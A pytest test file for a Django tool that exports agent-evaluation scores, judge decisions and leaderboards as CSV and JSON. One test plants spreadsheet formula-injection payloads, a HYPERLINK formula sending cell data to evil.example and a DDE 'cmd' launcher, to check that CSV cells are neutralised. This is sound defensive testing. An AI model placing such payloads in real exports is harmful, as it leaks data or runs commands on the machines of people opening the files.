import io
import json
import re

import pandas as pd
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from judges.services import review_step_pair
from metrics import exports
from metrics.models import TrajectoryScore
from metrics.selectors import leaderboard
from tests.factories import AgentRunFactory, TaskFactory, UserFactory
from tests.metrics.reports import evaluate, gold, trajectory, two_evaluated_runs

pytestmark = pytest.mark.django_db


@pytest.fixture
def runs():
    return two_evaluated_runs()


def _read(data: bytes, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    return pd.DataFrame(json.loads(data))


def test_scores_export_has_the_documented_columns_and_the_stored_values(runs):
    frame = exports.scores_frame({runs.alpha.pk: runs.alpha_job.pk})
    assert list(frame.columns) == [column.name for column in exports.SCORE_COLUMNS]
    assert list(frame["task_id"]) == ["101", "102", "201", "301", "401"]
    first = frame.iloc[0]
    score = TrajectoryScore.objects.get(job=runs.alpha_job, trajectory__task__task_id="101")
    assert (first["run"], first["agent"], first["sites"], first["evaluation"], first["judge"]) == (
        "alpha", "cot", "shopping_admin", runs.alpha_job.pk, "exact")
    assert (first["gold_id"], first["gold_annotator"], first["gold_version"]) == (score.gold_id, "annotator", 1)
    assert (first["step_success"], first["deviations"], first["recoveries"], first["success"]) == (1.0, 2, 2, True)
    without_gold = frame.iloc[4]
    assert pd.isna(without_gold["step_success"]) and pd.isna(without_gold["gold_id"])


def test_csv_and_json_carry_the_same_table_with_nulls_empty(runs):
    frame = exports.scores_frame({runs.alpha.pk: runs.alpha_job.pk})
    csv_rows = _read(exports.to_bytes(frame, "csv"), "csv")
    json_rows = json.loads(exports.to_bytes(frame, "json"))
    assert list(csv_rows.columns) == list(json_rows[0]) == list(frame.columns)
    assert csv_rows.loc[4, "step_success"] == "" and json_rows[4]["step_success"] is None
    assert csv_rows.loc[1, "step_success"] == repr(1 / 3) and json_rows[1]["step_success"] == pytest.approx(1 / 3)
    assert csv_rows.loc[0, "success"] == "True" and json_rows[0]["success"] is True
    assert json_rows[0]["deviations"] == 2
    with pytest.raises(ValueError, match="format: 'xml'"):
        exports.to_bytes(frame, "xml")


def test_decisions_export_gives_one_row_per_step_pair_and_per_judged_repetition(runs):
    frame = exports.decisions_frame({runs.alpha.pk: runs.alpha_job.pk})
    assert list(frame.columns) == [column.name for column in exports.DECISION_COLUMNS]
    table_1 = frame[frame["task_id"] == "101"]
    cells = table_1[table_1["kind"] == "step_match"]
    assert len(cells) == 3 * 6  # every gold step against every agent step
    matched = cells[cells["counted"] == True]  # noqa: E712 - a nullable boolean column
    assert sorted(zip(matched["gold_step"], matched["agent_step"])) == [(1, 2), (2, 3), (3, 5)]
    assert set(matched["score"]) == {1.0}
    # Structured actions repeat by the rule, not by a judge: no repetition decisions.
    assert (frame["kind"] != "repetition").all()
    assert (frame["backend"] == "exact").all()


def test_repetitions_of_free_text_steps_are_judged_and_exported_at_their_steps():
    run = AgentRunFactory(name="free-text")
    task = TaskFactory()
    # Steps 1-2 are outputs the harness could not read (free text: the judge compares them); step 3
    # is a structured click, still compared by the judge against the free-text step before it.
    trajectory(run, task, ["none", "none", "click [7]"], final_answer=None, outcome_status="no_stop")
    job = evaluate(run)
    frame = exports.decisions_frame({run.pk: job.pk})
    repeats = frame[frame["kind"] == "repetition"]
    # exact: "none" = "none" (a repeat), "none" != "click [7]".
    assert list(zip(repeats["agent_step"], repeats["subject"], repeats["counted"])) == [
        (2, "none", True), (3, "none", False)]


def test_a_reviewers_verdict_on_a_pair_is_the_score_used(runs):
    score = TrajectoryScore.objects.get(job=runs.alpha_job, trajectory__task__task_id="101")
    whole = score.decisions.get(kind="trajectory_match")
    reviewer = UserFactory(username="rev", password=None)
    review_step_pair(whole, 1, 1, human_score=1.0, reviewer=reviewer)
    evaluate(runs.alpha, runs.alpha_job.judge_config)  # the re-run takes the verdict in
    selection = exports.run_selection(runs.alpha)
    frame = exports.decisions_frame(selection)
    pair = frame[(frame["task_id"] == "101") & (frame["gold_step"] == 1) & (frame["agent_step"] == 1)].iloc[0]
    assert (pair["judge_score"], pair["human_score"], pair["score"]) == (0.0, 1.0, 1.0)
    assert pair["counted"]  # Step Success now matches gold 1 with agent step 1
    assert len(frame[frame["kind"] == "step_match"].query("task_id == '101'")) == 18


def test_answer_questions_are_exported_with_what_they_asked():
    run = AgentRunFactory(name="answers")
    task = TaskFactory(requirements=["red", "blue"], eval_config={"eval_types": ["string_match"],
                                                                  "reference_answers": {"fuzzy_match": ["red"]}})
    gold(task, ["click [1]"])
    trajectory(run, task, ["click [1]", "stop [red and green]"], final_answer="red and green",
               observation="[1] link 'red'")
    job = evaluate(run)
    frame = exports.decisions_frame({run.pk: job.pk})
    kinds = set(frame["kind"])
    assert {"step_match", "requirements", "groundedness", "fuzzy_answer"} <= kinds
    requirement = frame[frame["kind"] == "requirements"].iloc[0]
    assert (requirement["subject"], requirement["agent_text"]) == ("blue", "red and green")
    assert not requirement["counted"]
    aspects = frame[frame["kind"] == "groundedness"]
    assert sorted(aspects["subject"]) == ["grounded", "relevant"]


def test_aggregates_export_keeps_outcome_tables_as_json(runs):
    frame = exports.aggregates_frame({runs.alpha.pk: runs.alpha_job.pk})
    assert list(frame.columns) == [column.name for column in exports.AGGREGATE_COLUMNS]
    run_rows = frame[(frame["scope"] == "run")]
    assert run_rows.set_index("metric").loc["step_success", "count"] == 4
    csv_rows = _read(exports.to_bytes(frame, "csv"), "csv")
    outcomes = csv_rows[(csv_rows["scope"] == "run") & (csv_rows["metric"] == "outcomes")].iloc[0]
    assert json.loads(outcomes["data"])["total"] == 5
    assert csv_rows[csv_rows["metric"] == "recovery"]["data"].eq("").all()
    assert set(frame["scope"]) == {"run", "site", "paradigm", "successful"}


def test_leaderboard_export_has_a_row_per_run(runs):
    AgentRunFactory(name="gamma")
    board = leaderboard.leaderboard(leaderboard.LeaderboardFilters(sort="name", descending=False))
    frame = exports.leaderboard_frame(board)
    assert list(frame.columns) == [column.name for column in exports.LEADERBOARD_COLUMNS]
    assert list(frame["run"]) == ["alpha", "beta", "gamma"]
    alpha = frame.iloc[0]
    assert (alpha["step_success_count"], alpha["step_success_nulls"], alpha["scored"]) == (4, 1, 5)
    assert alpha["step_success"] == pytest.approx(board.rows[0].metrics["step_success"].mean)
    assert alpha["evaluation"] == runs.alpha_job.pk and alpha["scope"] == "run"
    assert alpha["outcome_answered"] + alpha["outcome_no_stop"] == 5
    assert alpha["mean_gold_steps"] == 3.0
    assert pd.isna(frame.iloc[2]["evaluation"]) and pd.isna(frame.iloc[2]["success"])


# The command ----------------------------------------------------------------------------------


def test_export_scores_command_writes_each_export(runs, tmp_path):
    out = io.StringIO()
    for what in exports.RUN_EXPORTS:
        for fmt in exports.FORMATS:
            path = tmp_path / f"{what}.{fmt}"
            call_command("export_scores", "--run", "alpha", "--what", what, "--format", fmt, "-o", str(path),
                         stdout=out)
            frame = _read(path.read_bytes(), fmt)
            assert list(frame.columns) == [column.name for column in exports.EXPORTS[what]]
    scores = _read((tmp_path / "scores.csv").read_bytes(), "csv")
    assert list(scores["task_id"]) == ["101", "102", "201", "301", "401"]
    assert f"rows of scores of run 'alpha' (evaluation #{runs.alpha_job.pk}, csv)" in out.getvalue()
    assert list(tmp_path.iterdir()) and not list(tmp_path.glob(".*"))  # no temporary files left


def test_export_scores_command_writes_to_standard_output(runs, capsysbinary):
    call_command("export_scores", "--run", "beta", "--what", "aggregates", "--format", "json", "-o", "-")
    rows = json.loads(capsysbinary.readouterr().out)
    assert {row["run"] for row in rows} == {"beta"} and {row["evaluation"] for row in rows} == {runs.beta_job.pk}


def test_export_scores_command_reads_a_named_job(runs, tmp_path):
    later = evaluate(runs.alpha, runs.alpha_job.judge_config)
    path = tmp_path / "scores.json"
    call_command("export_scores", "--run", "alpha", "--what", "scores", "--format", "json", "-o", str(path),
                 "--job", str(runs.alpha_job.pk), stdout=io.StringIO())
    assert {row["evaluation"] for row in json.loads(path.read_bytes())} == {runs.alpha_job.pk}
    call_command("export_scores", "--run", "alpha", "--what", "scores", "--format", "json", "-o", str(path),
                 stdout=io.StringIO())
    assert {row["evaluation"] for row in json.loads(path.read_bytes())} == {later.pk}


@pytest.mark.parametrize("arguments, message", [
    (["--run", "nobody"], "--run: no run named 'nobody'"),
    (["--run", "fresh"], "run 'fresh' has no finished evaluation"),
    (["--run", "alpha", "--job", "999"], "evaluation #999 did not evaluate run 'alpha'"),
    (["--run", "alpha", "--judge", "llm"], "with judge 'llm'"),
    (["--run", "alpha", "-o", "/no/such/folder/x.csv"], "-o: folder /no/such/folder does not exist"),
])
def test_export_scores_command_errors_name_the_problem(runs, tmp_path, arguments, message):
    AgentRunFactory(name="fresh")
    output = ["-o", str(tmp_path / "out.csv")] if "-o" not in arguments else []
    with pytest.raises(CommandError, match=re.escape(message)):
        call_command("export_scores", "--what", "scores", *output, *arguments)
    assert not (tmp_path / "out.csv").exists()


# The download view ----------------------------------------------------------------------------


@pytest.fixture
def user_client(client):
    client.force_login(UserFactory(username="viewer"))
    return client


def test_download_view_serves_each_export(runs, user_client):
    url = reverse("metrics:export", args=["scores", "csv"])
    response = user_client.get(url, {"run": [runs.beta.pk, runs.alpha.pk]})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="scores-alpha-beta.csv"'
    frame = _read(response.getvalue(), "csv")
    assert sorted(set(frame["run"])) == ["alpha", "beta"] and len(frame) == 9
    response = user_client.get(reverse("metrics:export", args=["leaderboard", "json"]), {"paradigm": "full_plan"})
    assert [row["run"] for row in json.loads(response.getvalue())] == ["beta"]
    response = user_client.get(reverse("metrics:export", args=["aggregates", "json"]),
                               {"run": runs.alpha.pk, "job": runs.alpha_job.pk})
    assert {row["evaluation"] for row in json.loads(response.getvalue())} == {runs.alpha_job.pk}


@pytest.mark.parametrize("path, query, status, message", [
    (("scores", "csv"), {}, 400, "run: give one or more run ids"),
    (("scores", "csv"), {"run": "x"}, 400, "run: give one or more run ids"),
    (("scores", "csv"), {"run": "999999"}, 404, ""),
    (("scores", "xml"), {"run": "1"}, 404, ""),
    (("gold", "csv"), {}, 404, ""),
])
def test_download_view_refuses_bad_requests(runs, user_client, path, query, status, message):
    response = user_client.get(reverse("metrics:export", args=path), query)
    assert response.status_code == status
    assert message in response.content.decode()


def test_download_view_of_an_unevaluated_run(runs, user_client):
    fresh = AgentRunFactory(name="fresh")
    response = user_client.get(reverse("metrics:export", args=["decisions", "csv"]), {"run": fresh.pk})
    assert response.status_code == 400 and "has no finished evaluation" in response.content.decode()
    response = user_client.get(reverse("metrics:export", args=["scores", "csv"]),
                               {"run": [runs.alpha.pk, runs.beta.pk], "job": runs.alpha_job.pk})
    assert response.status_code == 400 and "exactly one run" in response.content.decode()


def test_csv_exports_open_as_text_and_numbers_stay_numbers():
    """Run names, gold steps, agent text and answers that start like a formula get a leading quote
    (OWASP); numeric columns are written as numbers, negative ones included."""
    task = TaskFactory(task_id="901", number=901, requirements=["=1+1", "@total"])
    gold(task, ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "click [3]"])
    run = AgentRunFactory(name="=evil-run", agent="@agent", model="-model", paradigm="step_by_step")
    # One agent step against three gold steps: n - m = -2.
    trajectory(run, task, ["click [3]"], final_answer="-2+3+cmd|' /C calc'!A0", success=True)
    job = evaluate(run)
    board = exports.leaderboard_frame(leaderboard.leaderboard(leaderboard.LeaderboardFilters()))
    tables = {what: exports.RUN_FRAMES[what]({run.pk: job.pk}) for what in exports.RUN_EXPORTS}
    tables["leaderboard"] = board

    for what, frame in tables.items():
        rows = _read(exports.to_bytes(frame, "csv"), "csv")
        numeric = [column.name for column in exports.EXPORTS[what] if column.dtype in ("Int64", "Float64")]
        texts = rows.drop(columns=numeric)
        assert [cell for cell in texts.to_numpy().ravel() if cell[:1] and cell[0] in "=+-@\t\r"] == [], what
        assert rows["run"].iloc[0] == "'=evil-run", what

    leaderboard_row = _read(exports.to_bytes(board, "csv"), "csv").iloc[0]
    assert leaderboard_row["mean_length_difference"] == "-2.0"
    decisions = _read(exports.to_bytes(tables["decisions"], "csv"), "csv")
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")" in set(decisions["subject"])
    assert "'-2+3+cmd|' /C calc'!A0" in set(decisions["agent_text"])
    assert json.loads(exports.to_bytes(tables["decisions"], "json"))[0]["run"] == "=evil-run"  # JSON stays verbatim


def _long_trajectory_scored(steps: int, rationale_chars: int):
    """A run like an upload of a 1,000-step trajectory evaluated with the offline judge: its one
    whole-trajectory decision holds every agent step and a rationale of 716,678 characters."""
    from judges.models import DecisionKind
    from tests.factories import (
        EvaluationJobFactory, JudgeDecisionFactory, StepFactory, TrajectoryFactory, TrajectoryScoreFactory,
    )
    from trajectories.models import Step

    run = AgentRunFactory(name="long")
    trajectory = TrajectoryFactory(run=run, task=TaskFactory(task_id="77", number=77))
    Step.objects.bulk_create([StepFactory.build(trajectory=trajectory, index=index, action=f"click [{index}]")
                              for index in range(1, steps + 1)])
    job = EvaluationJobFactory(status="done")
    job.runs.add(run)
    decision = JudgeDecisionFactory(
        kind=DecisionKind.TRAJECTORY_MATCH, rationale="why " * (rationale_chars // 4),
        inputs={"gold": [{"text": "Click on 'Orders'"}, {"text": "Scroll down"}],
                "agent": [{"text": f"click [{index}]"} for index in range(1, steps + 1)]},
        output={"matrix": [[0.0] * steps, [0.0] * steps]},
    )
    score = TrajectoryScoreFactory(job=job, trajectory=trajectory, agent_steps=steps, gold_steps=2,
                                   details={"step_success": {"matched": []}})
    score.decisions.add(decision)
    return run, job, decision


def test_a_long_trajectorys_decisions_stream_in_bounded_memory(settings):
    import tracemalloc

    from django.test import Client

    from accounts.roles import REVIEWER
    from django.contrib.auth.models import Group

    run, job, decision = _long_trajectory_scored(1000, 716_678)
    reviewer = UserFactory(username="rev")
    reviewer.groups.add(Group.objects.get(name=REVIEWER))
    client = Client()
    client.force_login(reviewer)
    for fmt in ("csv", "json"):
        tracemalloc.start()
        response = client.get(f"/api/exports/decisions.{fmt}", {"run": "long", "job": job.pk})
        size, rationales, tail = 0, 0, b""
        for chunk in response.streaming_content:
            size += len(chunk)
            rationales += (tail + chunk).count(b"[cut: 716,676 characters, sha256 ")
            tail = chunk[-60:]
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert response.status_code == 200
        assert rationales == 1  # written once, cut, for its 2,000 step-pair rows
        assert size < 2 * 1024 * 1024, (fmt, size)  # the full rationale per row would be 1.4 GB
        assert peak < 64 * 1024 * 1024, (fmt, peak)
    rows = _read(b"".join(client.get("/api/exports/decisions.csv", {"run": "long", "job": job.pk})
                          .streaming_content), "csv")
    assert len(rows) == 2000 and (rows["decision_id"] == str(decision.pk)).all()
    assert rows["rationale"].iloc[0].endswith("]") and rows["rationale"].iloc[1:].eq("").all()


def test_an_export_over_the_row_limit_is_refused_with_a_reason(settings):
    _, job, _ = _long_trajectory_scored(50, 100)
    settings.EXPORT_MAX_ROWS = 99
    user = UserFactory(username="viewer")
    from django.test import Client

    client = Client()
    client.force_login(user)
    response = client.get("/api/exports/decisions.csv", {"run": "long", "job": job.pk})
    assert response.status_code == 400
    assert "more than the limit of 99 (EXPORT_MAX_ROWS)" in response.json()["detail"]
    page = client.get(reverse("metrics:export", args=["decisions", "json"]), {"run": job.runs.get().pk,
                                                                              "job": job.pk})
    assert page.status_code == 400 and "EXPORT_MAX_ROWS" in page.content.decode()
    with pytest.raises(CommandError, match="EXPORT_MAX_ROWS"):
        call_command("export_scores", "--run", "long", "--what", "decisions", "-o", "-", "--job", str(job.pk))
